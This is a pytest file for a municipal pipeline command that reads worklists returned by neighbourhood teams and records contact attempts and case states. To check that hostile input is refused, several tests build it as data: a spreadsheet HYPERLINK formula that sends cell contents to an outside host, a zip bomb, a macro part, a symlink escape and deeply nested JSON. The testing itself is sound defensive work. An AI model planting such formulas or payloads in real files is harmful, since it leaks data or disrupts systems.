"""`samenloop settle`: returned sheets and lines become attempts, results and states; feedback goes out sealed."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import typer
from jsonschema import Draft202012Validator
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner, Result

from pipeline.commands.at_the_inbox import follow_up_taking
from pipeline.commands.settle import register, settle
from pipeline.commands.wiring import SCHEMAS
from pipeline.store import tables
from pipeline.vocabulary.case import CLOSED, IN_PROGRESS, REVEALED, ROUTED
from pipeline.vocabulary.faults import Refused, RowFault
from pipeline.vocabulary.worklist_sheet import (
    CASE_ID_HEADING,
    FOLLOW_UP_COLUMNS,
    SHEET_NAME,
    SHEET_VERSION_HEADING,
)
from tests.builders.deliveries import Municipality
from tests.builders.stewardship import make_stewarded, put_case, put_signals, rows_of_table, stored_signal

TODAY = date(2026, 11, 10)
HELP = "Vervolghulp en/of verwijzing"
VERSION = "2026-11-03.1"
RECEIPT_SCHEMA = Draft202012Validator(json.loads((SCHEMAS / "follow_up" / "receipt.schema.json").read_text()))
NAME = "Wilhelmina van Oefenstein"


@pytest.fixture
def municipality(tmp_path: Path, database: str) -> Municipality:
    """Two shown cases, and one that nobody saw."""
    place = make_stewarded(tmp_path)
    with place.run(TODAY) as run:
        for case_id, state in (("Z-1", REVEALED), ("Z-2", REVEALED), ("Z-3", ROUTED)):
            signals = [stored_signal(partner, f"{case_id}/{partner}") for partner in ("huur-a", "energie-a")]
            put_signals(run, signals)
            put_case(run, case_id, state, signals)
    return place


def line(case_id: str = "Z-1", **changes: Any) -> dict[str, Any]:
    return {"case_id": case_id, "sheet_version": VERSION, **changes}


def attempt(attempt_id: str = "a-1", **changes: Any) -> dict[str, Any]:
    return {"attempt_id": attempt_id, "type": "Huisbezoek", "is_reached": True, "on": "2026-11-04", **changes}


def return_lines(place: Municipality, *lines: dict[str, Any], name: str = "werklijst.jsonl") -> Path:
    path = place.home.inbox_follow_up / name
    path.write_text("".join(json.dumps(item) + "\n" for item in lines))
    return path


def return_sheet(
    place: Municipality,
    *rows: dict[str, Any],
    name: str = "werklijst.xlsx",
    edit: Callable[[Any], None] | None = None,
) -> Path:
    """A sheet as a team returns it, names and all, columns in the order of the worklist."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = SHEET_NAME
    headings = ["Wie", *(column.heading for column in FOLLOW_UP_COLUMNS), CASE_ID_HEADING, SHEET_VERSION_HEADING]
    fields = ["who", *(column.field for column in FOLLOW_UP_COLUMNS), "case_id", "sheet_version"]
    sheet.append(["Wijkteam Noord: werklijst"])
    sheet.append(["Deze lijst is alleen voor het wijkteam."])
    sheet.append(headings)
    for row in rows:
        full = {"who": NAME, "case_id": "Z-1", "sheet_version": VERSION, **row}
        sheet.append([full.get(field) for field in fields])
    if edit is not None:
        edit(sheet)
    path = place.home.inbox_follow_up / name
    book.save(path)
    return path


def visit(**changes: Any) -> dict[str, Any]:
    return {"type": "Huisbezoek", "is_reached": "Ja", "on": date(2026, 11, 4), "part_of_day": "Avond", **changes}


def states(place: Municipality) -> dict[str, str]:
    with place.run(TODAY) as run:
        return {row["case_id"]: row["state"] for row in rows_of_table(run, tables.cases)}


def receipt(place: Municipality) -> dict[str, Any]:
    with place.run(TODAY) as run:
        (path,) = follow_up_taking.receipts_folder(run).glob("*.json")
    found: dict[str, Any] = json.loads(path.read_text())
    assert RECEIPT_SCHEMA.is_valid(found)
    return found


def settled(place: Municipality, today: date = TODAY) -> Any:
    with place.run(today) as run:
        return settle(run)


def test_lines_and_sheets_are_recorded_and_leave_the_inbox(municipality: Municipality) -> None:
    """One case by JSON lines, one by sheet: attempts, states, journal, and an empty inbox."""
    return_lines(municipality, line(attempts=[attempt()]))
    return_sheet(municipality, visit(case_id="Z-2", result=HELP, result_on=date(2026, 11, 5), is_unsafe="Ja"))
    outcome = settled(municipality)
    assert {"Z-1": IN_PROGRESS, "Z-2": CLOSED, "Z-3": ROUTED} == states(municipality)
    assert (2, 2, 2, 1, 1) == tuple(
        outcome.counts[name] for name in ("files", "attempts", "rows_counted", "cases_in_progress", "cases_closed")
    )
    assert [] == outcome.refused
    assert [] == list(municipality.home.inbox_follow_up.iterdir())
    with municipality.run(TODAY) as run:
        (result,) = rows_of_table(run, tables.results)
        moved = {
            (row["object"], row["result"])
            for row in rows_of_table(run, tables.journal)
            if row["action"] == "move_case"
        }
    assert (HELP, "2026-11-05", True) == (result["result"], result["result_on"], result["is_unsafe"])
    assert {("Z-1", IN_PROGRESS), ("Z-2", CLOSED)} == moved


def test_a_day_before_the_case_was_on_a_list_is_refused(municipality: Municipality) -> None:
    """The case was on a list for the first time on 3 November; a visit the day before is a typing error."""
    return_lines(municipality, line(attempts=[attempt(on="2026-11-02")]), line("Z-2", attempts=[attempt("a-2")]))
    assert [RowFault("DATE_BEFORE_CASE", "on", 1)] == settled(municipality).refused
    assert {"Z-1": REVEALED, "Z-2": IN_PROGRESS, "Z-3": ROUTED} == states(municipality)


def test_a_sheet_returned_twice_counts_once(municipality: Municipality) -> None:
    """The same sheet twice, and once by a colleague under another name: one attempt, one move of the case."""
    for _ in range(2):
        return_sheet(municipality, visit())
        settled(municipality)
    return_sheet(municipality, visit(by="cd"), name="werklijst (1).xlsx")
    outcome = settled(municipality)
    with municipality.run(TODAY) as run:
        attempts = rows_of_table(run, tables.attempts)
        journal = [row for row in rows_of_table(run, tables.journal) if row["action"] == "move_case"]
    assert (0, 1, 1) == (outcome.counts["attempts"], len(attempts), len(journal))


def test_a_wrong_row_is_refused_and_the_rest_counts(municipality: Municipality) -> None:
    """Code, heading and row stand in the receipt with the next step in Dutch; the file is kept under seal."""
    return_sheet(
        municipality,
        visit(),
        visit(case_id="Z-9"),
        visit(case_id="Z-2", on=date(2026, 12, 4)),
        visit(case_id="Z-2", type="Praatje"),
        {"case_id": "Z-3"},
    )
    outcome = settled(municipality)
    wanted = [
        RowFault("CASE_UNKNOWN", "case_id", 2),
        RowFault("DATE_AHEAD", "on", 3),
        RowFault("CHOICE_UNKNOWN", "type", 4),
    ]
    assert sorted(wanted) == sorted(outcome.refused)
    assert (1, 1) == (outcome.counts["rows_counted"], outcome.exit_code)
    answer = receipt(municipality)
    ahead = next(fault for fault in answer["refused"] if fault["code"] == "DATE_AHEAD")
    assert ("partly_refused", "Datum contact", 6) == (answer["result"], ahead["heading"], ahead["sheet_row"])
    (name,) = municipality.quarantined()
    assert NAME.encode() not in b"".join(
        path.read_bytes() for path in municipality.home.path.rglob("*") if path.is_file()
    )
    with municipality.run(TODAY) as run:
        opened = follow_up_taking.open_refused(run, name)
        lines = [row["action"] for row in rows_of_table(run, tables.journal)]
    assert NAME == load_workbook(io.BytesIO(opened))[SHEET_NAME]["A4"].value
    assert "open_refused_follow_up" in lines


def settle_typed(*words: str) -> Result:
    app = typer.Typer(pretty_exceptions_enable=False)
    register(app)
    app.callback()(lambda: None)
    return CliRunner().invoke(app, ["settle", *words])


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["--open-refused", "follow_up-x"], "Geef ook de optie die erbij hoort: --out"),
        (["--out", "x.xlsx"], "Geef ook de optie die erbij hoort: --open-refused"),
    ],
)
def test_the_option_that_lacks_is_named(words: list[str], told: str) -> None:
    """Of two options that belong together."""
    result = settle_typed(*words)
    assert (2, True) == (result.exit_code, told in result.output)


@pytest.mark.parametrize("name", ["follow_up-2026-11-09_x", "huur-a_2026-10_0001"])
def test_an_unknown_name_in_quarantine_is_told_as_that(municipality: Municipality, name: str) -> None:
    """It is the name of a folder that is asked for, no number; nothing is written."""
    out = municipality.home.path / "uit.xlsx"
    result = settle_typed("--home", str(municipality.home.path), "--open-refused", name, "--out", str(out))
    assert (2, False) == (result.exit_code, out.exists())
    assert "REFUSED_FILE_UNKNOWN" in result.output
    assert "Controleer het nummer" not in result.output


def test_no_value_of_a_returned_sheet_stands_in_receipt_journal_or_store(municipality: Municipality) -> None:
    """What a team typed wrong comes back as a code; the name of its file only when it is a worklist's."""
    return_sheet(municipality, visit(type="Gesprek met Wilhelmina"), name="Wilhelmina van Oefenstein.xlsx")
    outcome = settled(municipality)
    with municipality.run(TODAY) as run:
        said = json.dumps([rows_of_table(run, tables.journal), rows_of_table(run, tables.attempts)])
    files = [path for path in municipality.home.path.rglob("*") if path.is_file()]
    told = said + outcome.as_json() + "".join(outcome.lines) + "".join(str(path) for path in files)
    told += "".join(path.read_bytes().decode("latin-1") for path in files)
    assert "Wilhelmina" not in told
    assert receipt(municipality)["file"] is None


def test_columns_may_be_moved_and_csv_of_another_locale_is_read(municipality: Municipality) -> None:
    """Saved as csv by a spreadsheet, with the columns in another order and dates as text."""
    text = (
        "Werklijst;;;;\r\ncase_id;Datum contact;Bereikt;Soort contact;sheet_version\r\n"
        f"Z-1;4-11-2026;nee;Telefoon;{VERSION}\r\nZ-2;;;;{VERSION}\r\n"
    )
    (municipality.home.inbox_follow_up / "werklijst.csv").write_bytes(text.encode("cp1252"))
    outcome = settled(municipality)
    assert (1, 1, 0) == tuple(outcome.counts[name] for name in ("attempts", "rows_blank", "rows_refused"))


def test_a_formula_refuses_its_row_and_is_never_computed(municipality: Municipality) -> None:
    """=HYPERLINK in a cell that a team fills in is refused; elsewhere on the sheet it is not looked at."""

    def edit(sheet: Any) -> None:
        sheet["A4"] = '=HYPERLINK("http://example.org/"&A1)'
        sheet["F5"] = '=HYPERLINK("http://example.org/"&A1)'

    return_sheet(municipality, visit(), visit(case_id="Z-2"), edit=edit)
    outcome = settled(municipality)
    assert ([RowFault("FORMULA_FOUND", "by", 2)], 1) == (outcome.refused, outcome.counts["attempts"])


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, data)
    return buffer.getvalue()


def bomb() -> bytes:
    return with_part(b"", "xl/worksheets/sheet1.xml", b"\0" * (80 << 20))


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("werklijst.xlsx", b"not a zip", "FOLLOW_UP_UNREADABLE"),
        ("werklijst.xlsx", bomb(), "FOLLOW_UP_TOO_LARGE"),
        ("werklijst.xlsm", b"PK", "FOLLOW_UP_MACRO"),
        ("werklijst.docx", b"PK", "FOLLOW_UP_KIND"),
        ("werklijst.csv", b"a;b\r\n1;2\r\n", "SHEET_UNKNOWN"),
        ("werklijst.csv", b"case_id;Bereikt\r\n" + b"Z-1;ja\r\n" * 6000, "FOLLOW_UP_TOO_LARGE"),
        ("werklijst.jsonl", b"{}\n\x00", "FOLLOW_UP_UNREADABLE"),
        ("werklijst.jsonl", b"\n" * 30_000, "FOLLOW_UP_TOO_LARGE"),
        ("werklijst.csv", b"x" * (11 << 20), "FOLLOW_UP_TOO_LARGE"),
        ("werklijst.xlsx", b"", "FOLLOW_UP_EMPTY"),
        ("werklijst.csv", b" \r\n", "FOLLOW_UP_EMPTY"),
    ],
)
def test_a_file_that_is_no_worklist_is_refused_as_a_whole(
    tmp_path: Path, name: str, content: bytes, code: str
) -> None:
    """Kept under seal, answered, gone from the inbox; the other files of that morning count."""
    place = make_stewarded(tmp_path)
    (place.home.inbox_follow_up / f"0-{name}").write_bytes(content)
    outcome = settled(place)
    assert ([RowFault(code)], 1) == (outcome.refused, outcome.counts["files_refused"])
    assert [] == list(place.home.inbox_follow_up.iterdir())
    assert ["reason.json", "returned.sealed"] == sorted(
        path.name for path in (place.home.quarantine / place.quarantined()[0]).iterdir()
    )


@pytest.mark.parametrize(
    ("good", "told"),
    [
        (0, "niets overgenomen; "),
        (1, "1 rij overgenomen, de rest niet; "),
        (2, "2 rijen overgenomen, de rest niet; "),
    ],
)
def test_the_screen_says_how_much_of_a_file_was_taken(municipality: Municipality, good: int, told: str) -> None:
    """Of none, one and more rows in words that fit."""
    lines = [line(case_id, is_unsafe=True) for case_id in ("Z-1", "Z-2")[:good]]
    return_lines(municipality, *lines, line("Z-9", is_unsafe=True))
    (said,) = settled(municipality).lines
    assert f": {told}verzegeld in follow_up-" in said


def test_a_file_under_another_name_is_told_as_that(municipality: Municipality) -> None:
    """The receipt does not repeat a name that may be somebody's."""
    return_sheet(municipality, visit(), name="Wilhelmina van Oefenstein.xlsx")
    settled(municipality)
    with municipality.run(TODAY) as run:
        (path,) = follow_up_taking.receipts_folder(run).glob("*.txt")
    assert "Bestand: onder een andere naam ingeleverd (follow-up-" in path.read_text()


def test_a_macro_refuses_the_sheet(municipality: Municipality) -> None:
    """A sheet with a macro in it is not read at all."""
    path = return_sheet(municipality, visit())
    path.write_bytes(with_part(path.read_bytes(), "xl/vbaProject.bin", b"\0"))
    assert [RowFault("FOLLOW_UP_MACRO")] == settled(municipality).refused
    assert REVEALED == states(municipality)["Z-1"]


def test_broken_lines_are_refused_one_by_one(municipality: Municipality) -> None:
    """Half a line, a nested bomb, a list and a field named twice are each one refused row."""
    path = municipality.home.inbox_follow_up / "opvolging.jsonl"
    good = json.dumps(line(attempts=[attempt()]))
    twice = b'\n{"case_id": "Z-1", "case_id": "Z-2", "is_unsafe": true}'
    path.write_bytes(b"[" * 50_000 + b"\n[1]\n" + good.encode() + twice + b'\n{"case_id": "Z-2", "attem')
    outcome = settled(municipality)
    assert [RowFault("LINE_INVALID", None, row) for row in (1, 2, 4, 5)] == outcome.refused
    assert 1 == outcome.counts["attempts"]


def test_what_is_no_file_or_not_there_yet_stays(municipality: Municipality, tmp_path: Path) -> None:
    """Links are not followed, folders not entered; hidden and half-written names are not looked at."""
    inbox = municipality.home.inbox_follow_up
    (tmp_path / "secret.jsonl").write_text(json.dumps(line(attempts=[attempt()])))
    (inbox / "link.jsonl").symlink_to(tmp_path / "secret.jsonl")
    (inbox / "map.xlsx").mkdir()
    (inbox / ".werklijst.jsonl.part").write_text("{")
    (inbox / "~$werklijst.xlsx").write_text("x")
    outcome = settled(municipality)
    assert [RowFault("FOLLOW_UP_NOT_A_FILE")] * 2 == outcome.refused
    assert (4, 0) == (len(list(inbox.iterdir())), outcome.counts["attempts"])


def test_without_an_admission_key_nothing_is_lost(municipality: Municipality) -> None:
    """A refused file that cannot be sealed waits in the inbox."""
    keys = [key for key in municipality.directory["keys"] if key["kind"] != "admission"]
    municipality.directory["keys"][:] = keys
    municipality.write_documents()
    path = return_lines(municipality, line("Z-9", is_unsafe=True))
    with pytest.raises(Refused) as refusal:
        settled(municipality)
    assert ("KEY_MISSING", True) == (refusal.value.code, path.exists())


@pytest.mark.parametrize("dies_in", ["folder.write_file", "_take_out", "kept.write_file", "_put_under_seal"])
def test_killed_anywhere_the_next_run_ends_in_the_same_state(
    municipality: Municipality, monkeypatch: pytest.MonkeyPatch, dies_in: str
) -> None:
    """Before, in or after the transaction: once more gives one attempt, one line, one receipt, an empty inbox."""

    def die(*_args: object, **_kwargs: object) -> None:
        raise KeyboardInterrupt

    return_sheet(municipality, visit(), visit(case_id="Z-9"))
    with monkeypatch.context() as patch:
        patch.setattr(f"pipeline.commands.at_the_inbox.follow_up_taking.{dies_in}", die)
        with pytest.raises(KeyboardInterrupt):
            settled(municipality)
    settled(municipality)
    with municipality.run(TODAY) as run:
        attempts, journal = rows_of_table(run, tables.attempts), rows_of_table(run, tables.journal)
    lines = [row["action"] for row in journal if not row["action"].startswith("send")]
    assert (1, ["move_case", "settle_follow_up"]) == (len(attempts), sorted(lines))
    assert (1, []) == (receipt(municipality)["rows_counted"], list(municipality.home.inbox_follow_up.iterdir()))
